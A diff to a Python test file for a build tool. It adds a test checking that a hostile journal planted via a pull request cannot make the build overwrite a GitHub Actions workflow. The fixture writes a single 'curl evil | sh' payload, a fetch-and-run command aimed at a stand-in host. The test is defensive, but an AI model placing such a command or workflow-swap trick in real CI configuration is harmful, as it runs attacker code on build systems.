@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
+import json
 import os
 import shutil
 import subprocess
@@ -130,3 +132,27 @@ def test_a_build_killed_at_any_step_leaves_the_old_package_or_one_the_next_build
 def test_generated_paths_are_the_files_build_writes(project_copy: Layout) -> None:
     outputs, _ = generate(project_copy)
     assert sorted(generated_paths(project_copy)) == sorted(outputs)
+
+
+def test_a_journal_from_a_pull_request_reaches_no_file_but_builds_own(project_copy: Layout) -> None:
+    # A hostile journal and temporary file that would replace a workflow: build finishes only
+    # renames of the files it writes itself, so the workflow keeps its bytes.
+    root = project_copy.root
+    workflow = root / ".github" / "workflows" / "ci.yml"
+    workflow.parent.mkdir(parents=True)
+    workflow.write_bytes(b"original\n")
+    payload = b"run: curl evil | sh\n"
+    temp = workflow.with_name(".ci.yml.abcdefgh.tmp")
+    temp.write_bytes(payload)
+    journal = [
+        {
+            "temp": temp.relative_to(root).as_posix(),
+            "target": workflow.relative_to(root).as_posix(),
+            "old": hashlib.sha256(b"original\n").hexdigest(),
+            "new": hashlib.sha256(payload).hexdigest(),
+        }
+    ]
+    (root / ".newsfacts.journal").write_text(json.dumps(journal), encoding="utf-8")
+
+    assert build(project_copy).problems == []
+    assert workflow.read_bytes() == b"original\n"
